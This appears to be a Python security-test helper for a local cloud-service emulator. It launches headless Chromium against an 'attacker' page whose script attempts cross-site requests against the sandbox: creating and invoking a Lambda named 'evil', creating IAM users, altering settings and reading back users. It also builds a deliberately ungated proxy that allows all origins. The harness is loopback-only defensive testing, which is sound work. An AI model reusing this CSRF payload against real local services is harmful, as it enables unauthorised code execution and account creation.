"""A real browser, an attacker's page, and the sandbox without its gate."""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import signal
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Empty, Queue
from typing import IO, Any

import urllib3

CHROMIUM = shutil.which("chromium")

ATTACKER = "attacker.example"
REBOUND = "rebound.example"
"""Names that the browser looks up as 127.0.0.1, and no other machine is ever looked up."""

FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-proxy-server",
    f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1,MAP {REBOUND} 127.0.0.1,MAP * ~NOTFOUND,EXCLUDE 127.0.0.1",
)

REPORT_SECONDS = 120

PAGE = """\
<!doctype html><title>kittens</title><iframe name="frame"></iframe><script>
const target = $TARGET, code = $CODE, reports = {};
const post = (path, body, more) => fetch(target + path, {method: "POST", mode: "no-cors", body, ...more});
const ended = (element, event) => new Promise(done => { element[event] = done; setTimeout(done, 20000); });

async function attempt(name, act) {
  try { reports[name] = String(await act()); } catch (error) { reports[name] = "failed"; }
}

async function image() {
  const element = new Image(), end = Promise.race([ended(element, "onload"), ended(element, "onerror")]);
  element.src = target + "/?Action=CreateUser&UserName=image";
  await end;
}

async function form() {
  const element = document.createElement("form");
  Object.assign(element, {method: "POST", action: target + "/", target: "frame"});
  element.innerHTML = '<input name="Action" value="CreateUser"><input name="UserName" value="form">';
  document.body.append(element);
  const end = ended(document.querySelector("iframe"), "onload");
  element.submit();
  await end;
}

async function frame() {
  const element = document.createElement("iframe"), end = ended(element, "onload");
  element.src = target + "/?Action=CreateUser&UserName=frame";
  document.body.append(element);
  await end;
}

async function read(path, more) {
  const answer = await fetch(target + path, more);
  return await answer.text();
}

(async () => {
  const json = {"Content-Type": "application/json"};
  await attempt("beacon", () => navigator.sendBeacon(target + "/_sandbox/faults", $FAULTS));
  await attempt("create", () => post("/2015-03-31/functions", JSON.stringify(code)));
  await attempt("invoke", () => post("/2015-03-31/functions/evil/invocations", "{}"));
  await attempt("image", image);
  await attempt("form", form);
  await attempt("frame", frame);
  await attempt("preflight", () => read("/_sandbox/settings", {method: "PUT", headers: json, body: $SETTINGS}));
  await attempt("read settings", () => read("/_sandbox/settings"));
  await attempt("read users", () => read("/?Action=ListUsers"));
  await fetch("/report", {method: "POST", body: JSON.stringify(reports)});
})();
</script>
"""
"""All that a page may try without asking the user, one after the other; then it tells its own server what it got."""


def packed(source: str) -> str:
    """Return the code of a function, as CreateFunction expects it."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("index.py", source)
    return base64.b64encode(content.getvalue()).decode()


def attack(target: str, marker: Path) -> str:
    """Return a page that tries to write *marker*."""
    source = f"def handler(event, context):\n    open({str(marker)!r}, 'w').write('ran')\n"
    code = {
        "FunctionName": "evil",
        "Runtime": "python3.14",
        "Handler": "index.handler",
        "Role": "arn:aws:iam::123456789012:role/x",
        "Code": {"ZipFile": packed(source)},
    }
    faults = json.dumps([{"operation": "Ping", "status": 500}])
    values = {"$TARGET": target, "$CODE": code, "$FAULTS": faults, "$SETTINGS": json.dumps({"alias": "stolen"})}
    page = PAGE
    for name, value in values.items():
        page = page.replace(name, json.dumps(value))
    return page


@dataclass
class Site:
    """The attacker's server: it serves one page and receives its report."""

    page: str
    reports: Queue[dict[str, str]] = field(default_factory=Queue)

    def get(self, _handler: BaseHTTPRequestHandler, _body: bytes) -> tuple[int, dict[str, str], bytes]:
        return 200, {"Content-Type": "text/html"}, self.page.encode()

    def post(self, _handler: BaseHTTPRequestHandler, body: bytes) -> tuple[int, dict[str, str], bytes]:
        self.reports.put(json.loads(body))
        return 204, {}, b""


@dataclass(frozen=True)
class Ungated:
    """
    The sandbox without its gate.

    It forwards requests without the headers that identify a browser, and lets
    every site read the responses, as ministack does by default.
    """

    sandbox: str

    def get(self, handler: BaseHTTPRequestHandler, body: bytes) -> tuple[int, dict[str, str], bytes]:
        answer = urllib3.request(handler.command, self.sandbox + handler.path, body=body or None, headers=kept(handler))
        allowed = {"Access-Control-Allow-Origin": "*"}
        return answer.status, {"Content-Type": answer.headers.get("Content-Type", "text/plain"), **allowed}, answer.data

    put = post = get

    def options(self, _handler: BaseHTTPRequestHandler, _body: bytes) -> tuple[int, dict[str, str], bytes]:
        allowed = {"Origin": "*", "Methods": "GET, POST, PUT", "Headers": "*"}
        return 200, {f"Access-Control-Allow-{name}": value for name, value in allowed.items()}, b""


def kept(handler: BaseHTTPRequestHandler) -> dict[str, str]:
    """Return the only header that the service needs."""
    return {name: value for name, value in handler.headers.items() if name.lower() == "content-type"}


@contextmanager
def serve(site: Site | Ungated) -> Iterator[int]:
    """Serve on a free loopback port; return the port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, headers, content = getattr(site, self.command.lower())(self, body)
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_POST = do_PUT = do_OPTIONS = do_GET  # noqa: N815 - the standard library's names

        def log_message(self, *_arguments: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@dataclass(frozen=True)
class Browser:
    """
    Chromium, each time with a new profile.

    Attributes:
        folder: The folder for its files. Its path must be short, because they include a socket.
    """

    folder: Path

    def shown(self, url: str) -> str:
        """Return the page of a URL that the user typed in, after its scripts ran."""
        arguments = [*self._command("dump"), "--virtual-time-budget=5000", "--dump-dom", url]
        done = subprocess.run(arguments, env=self._environment, capture_output=True, text=True, check=True, timeout=120)
        return done.stdout

    def visit(self, site: Site, url: str) -> dict[str, str]:
        """Open a URL, and return what its page reports to its site."""
        log = self.folder / "log"
        with log.open("wb") as said, self._running(url, said):
            try:
                return site.reports.get(timeout=REPORT_SECONDS)
            except Empty:
                message = f"the page reported nothing within {REPORT_SECONDS} seconds; chromium says: {log.read_text()}"
                raise AssertionError(message) from None

    @contextmanager
    def _running(self, url: str, said: IO[bytes]) -> Iterator[None]:
        command = [*self._command("visit"), url]
        process = subprocess.Popen(command, env=self._environment, stdout=said, stderr=said, start_new_session=True)
        try:
            yield
        finally:
            # The browser has many processes, and ending the first does not end the others.
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()

    def _command(self, name: str) -> list[str]:
        return [str(CHROMIUM), *FLAGS, f"--user-data-dir={self.folder / name}"]

    @property
    def _environment(self) -> dict[str, str]:
        return {"PATH": os.environ["PATH"], "HOME": str(self.folder), "TMPDIR": str(self.folder)}
